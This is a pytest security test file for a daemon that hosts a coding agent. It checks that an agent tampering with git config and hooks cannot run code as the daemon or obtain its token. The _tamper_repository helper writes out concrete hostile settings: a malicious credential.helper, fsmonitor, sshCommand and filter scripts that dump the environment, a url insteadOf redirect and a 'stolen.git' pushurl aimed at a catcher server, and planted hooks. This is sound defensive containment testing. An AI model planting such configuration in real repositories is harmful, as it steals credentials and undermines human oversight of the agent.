"""The daemon's git against an agent that rewrites every repository it can reach.

The agent runs as the daemon's user, so it can edit the mirror's config and
hooks, the workspace's config (fsmonitor, sshCommand, includes, filters) and
hooks. None of it may run on the daemon's behalf, redirect a credentialed
request, or see the token: the token reaches git only through a pipe.
"""

from __future__ import annotations

import base64
import os
import stat
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from orchestrator.agent import IssueRef, RepoSource, WorkspaceManager
from orchestrator.turns.workspace_sync import sync_to_head

from .conftest import TOKEN, Harness, git
from .git_http import GitHttpServer


class Listener:
    """An HTTP endpoint that records every request's headers (the agent's catcher)."""

    def __init__(self) -> None:
        self.headers: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def _catch(self) -> None:
                listener.headers.append(str(self.headers))
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="x"')
                self.end_headers()

            do_GET = do_POST = _catch

            def log_message(self, format: str, *args: object) -> None:
                return

        self._http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._http.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._http.server_address[1]}/"

    def close(self) -> None:
        self._http.shutdown()
        self._http.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    catcher = Listener()
    try:
        yield catcher
    finally:
        catcher.close()


def _script(path: Path, leak: Path) -> str:
    """An executable that appends its environment and arguments to ``leak``."""
    path.write_text(f'#!/bin/sh\n{{ echo "ARGS $*"; env; }} >> {leak}\ncat >/dev/null\nexit 0\n')
    path.chmod(path.stat().st_mode | stat.S_IEXEC)
    return str(path)


def _tamper_repository(
    repo: Path, git_dir: Path, tmp: Path, listener: Listener, server: str
) -> Path:
    """Everything a hostile agent plants in a repository's config and hooks; the leak file."""
    leak = tmp / f"leak-{repo.name}.txt"
    evil = _script(tmp / f"evil-{repo.name}.sh", leak)
    included = tmp / f"included-{repo.name}.cfg"
    included.write_text(f"[credential]\n\thelper = !{evil}\n[core]\n\tpager = {evil}\n")
    settings = {
        "remote.origin.pushurl": listener.url + "stolen.git",
        f"url.{listener.url}.insteadOf": server,
        "include.path": str(included),
        "core.fsmonitor": evil,
        "core.sshCommand": evil,
        "credential.helper": f"!{evil}",
        "http.extraHeader": "X-Planted: 1",
        "protocol.ext.allow": "always",
        "filter.evil.smudge": evil,
        "filter.evil.clean": evil,
        "filter.evil.required": "true",
    }
    for key, value in settings.items():
        subprocess.run(["git", "config", "--file", str(git_dir / "config"), key, value], check=True)
    hooks = git_dir / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("pre-push", "reference-transaction", "post-update", "post-checkout", "post-merge"):
        _script(hooks / name, leak)
    return leak


def _no_token_in(root: Path) -> list[Path]:
    encoded = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
    found = []
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            if TOKEN.encode() in data or encoded.encode() in data:
                found.append(path)
    return found


def test_planted_config_and_hooks_never_run_nor_see_the_token(
    harness: Harness, git_server: GitHttpServer, listener: Listener, tmp_path: Path
) -> None:
    source = RepoSource(git_server.url("widgets.git"), token=TOKEN)
    server_prefix = git_server.url("")
    manager: WorkspaceManager = harness.manager()
    workspace = manager.ensure(IssueRef("acme/widgets#7", 7, "Add a widget"), source)
    mirror = manager.mirrors.path_for(source)

    # The agent works, then rewrites the mirror and its own workspace.
    (workspace.path / "widget.py").write_text("WIDGET = 1\n")
    (workspace.path / ".gitattributes").write_text("*.py filter=evil\n")
    git(workspace.path, "add", "-A")
    git(workspace.path, "commit", "--quiet", "-m", "add widget")
    leaks = [
        _tamper_repository(mirror, mirror, tmp_path, listener, server_prefix),
        _tamper_repository(
            workspace.path, workspace.path / ".git", tmp_path, listener, server_prefix
        ),
    ]

    # The daemon fetches, pushes, and brings the workspace up to a human's push.
    manager.mirrors.update(source)
    head = git(workspace.path, "rev-parse", "HEAD")
    assert manager.publish(workspace, source) == head
    served = tmp_path / "served" / "widgets.git"
    assert git(served, "rev-parse", f"refs/heads/{workspace.branch}") == head
    human = tmp_path / "human"
    git(tmp_path, "clone", "--quiet", "-b", workspace.branch, str(served), str(human))
    (human / "human.py").write_text("HUMAN = 1\n")
    git(human, "add", "-A")
    git(human, "commit", "--quiet", "-m", "a human's change")
    git(human, "push", "--quiet", "origin", workspace.branch)
    sync_to_head(manager, workspace, source, git(human, "rev-parse", "HEAD"))
    assert (workspace.path / "human.py").read_text() == "HUMAN = 1\n"

    for leak in leaks:
        assert not leak.exists(), leak.read_text()
    assert listener.headers == []
    assert _no_token_in(manager.root) == []
    assert _no_token_in(manager.mirrors.root) == []


def test_the_agent_cannot_push_from_its_workspace(
    harness: Harness, git_server: GitHttpServer, tmp_path: Path
) -> None:
    source = RepoSource(git_server.url("widgets.git"), token=TOKEN)
    manager = harness.manager()
    workspace = manager.ensure(IssueRef("acme/widgets#7", 7, "Add a widget"), source)
    (workspace.path / "sneaky.py").write_text("x = 1\n")
    git(workspace.path, "add", "-A")
    git(workspace.path, "commit", "--quiet", "-m", "sneaky")
    env = {**manager.agent_git_env(), "GIT_TERMINAL_PROMPT": "0"}
    before = len(git_server.seen)
    pushed = subprocess.run(
        ["git", "push", "origin", f"HEAD:refs/heads/{workspace.branch}"],
        cwd=workspace.path,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert pushed.returncode != 0
    assert git_server.seen[before:] and not [s for s in git_server.seen[before:] if s.authorized]
    assert "x-access-token" not in (workspace.path / ".git" / "config").read_text()


def test_the_token_reaches_git_in_no_environment_and_no_argument(
    harness: Harness, git_server: GitHttpServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Every git the daemon starts goes through this wrapper, which records what it got.
    real = subprocess.run(["which", "git"], capture_output=True, text=True, check=True).stdout
    record = tmp_path / "git-calls.txt"
    wrappers = tmp_path / "bin"
    wrappers.mkdir()
    wrapper = wrappers / "git"
    wrapper.write_text(
        f'#!/bin/sh\n{{ echo "ARGV $*"; env; echo "--"; }} >> {record}\nexec {real.strip()} "$@"\n'
    )
    wrapper.chmod(0o755)
    monkeypatch.setenv("PATH", f"{wrappers}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    source = RepoSource(git_server.url("widgets.git"), token=TOKEN)
    manager = harness.manager()
    workspace = manager.ensure(IssueRef("acme/widgets#7", 7, "Add a widget"), source)
    (workspace.path / "widget.py").write_text("WIDGET = 1\n")
    git(workspace.path, "add", "-A")
    git(workspace.path, "commit", "--quiet", "-m", "add widget")
    manager.publish(workspace, source)

    # The daemon's own calls (the test's git helper inherits the test's environment).
    calls = [
        block
        for block in record.read_text().split("\n--\n")
        if block.startswith("ARGV -c core.hooksPath=/dev/null")
    ]
    assert calls and any("credential.helper=!bash -c" in block for block in calls)
    encoded = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
    for block in calls:
        assert TOKEN not in block and encoded not in block
        # Nothing of the daemon's environment but PATH reaches its git.
        assert "GITHUB_TOKEN" not in block
    assert [seen for seen in git_server.seen if seen.authorized]
